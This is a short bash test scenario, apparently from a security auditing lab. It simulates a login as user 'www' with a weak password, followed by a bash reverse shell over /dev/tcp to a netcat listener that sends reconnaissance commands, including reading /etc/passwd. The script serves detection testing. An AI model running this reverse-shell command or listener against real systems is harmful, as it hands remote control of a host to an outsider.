# Somebody with the password of www makes bash connect back and hand its standard streams to a listener outside,
# whose owner then types into it.
# rules: recording
# format: RAW
# node: web-01
# source: 203.0.113.66
source "$(dirname "${BASH_SOURCE[0]}")/../helpers.sh"

{ sleep 5; for line in id 'uname -a' 'cat /etc/passwd' 'ls -la /home' exit; do echo "$line"; sleep 1; done; } |
  timeout 25 ip netns exec audit-lab nc -l "$source_ip" 4444 & listener=$!
until_listening 4444 outside
from "$source_ip" www www-Passw0rd "timeout 20 bash -c 'bash -i >& /dev/tcp/$source_ip/4444 0>&1'"
wait $listener || true
